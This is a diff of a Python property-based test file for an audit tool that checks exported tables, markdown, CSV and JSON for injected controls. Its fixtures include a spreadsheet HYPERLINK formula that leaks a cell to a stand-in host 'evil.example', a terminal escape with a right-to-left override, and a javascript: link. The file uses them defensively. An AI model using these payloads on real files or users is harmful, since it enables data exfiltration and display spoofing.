@@ -15,9 +15,10 @@ from plumbline.audit.options import AuditOptions
 from plumbline.cli import main
 from plumbline.metrics.groups.contingency import table_to_contingency
 from plumbline.standards import decisions
-from tests.artifacts.test_plain_text import ANY, hidden
+from tests.artifacts.test_plain_text import hidden
 from tests.audit.external.test_decisions import people, written
 
+NAMES = st.text(st.characters(codec="utf-8"), max_size=20)  # what a file can hold
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HOSTILE = {"A": FORMULA, "B": "\x1b[2J\u202emale", "C": "[x](javascript:alert(1))"}
 MARKUP = {
@@ -87,8 +88,8 @@ def test_an_error_quotes_a_value_without_what_a_terminal_obeys(tmp_path, capfd):
 
 @settings(max_examples=25, deadline=None)
 @given(
-    st.lists(ANY.map(str.strip).filter(bool), min_size=2, max_size=2, unique=True),
-    ANY.filter(bool),
+    st.lists(NAMES.map(str.strip).filter(bool), min_size=2, max_size=2, unique=True),
+    NAMES.filter(bool),
     st.sampled_from(["table", "md", "csv", "json"]),
 )
 def test_no_format_of_an_audit_has_a_control_for_any_name(groups, attribute, form):
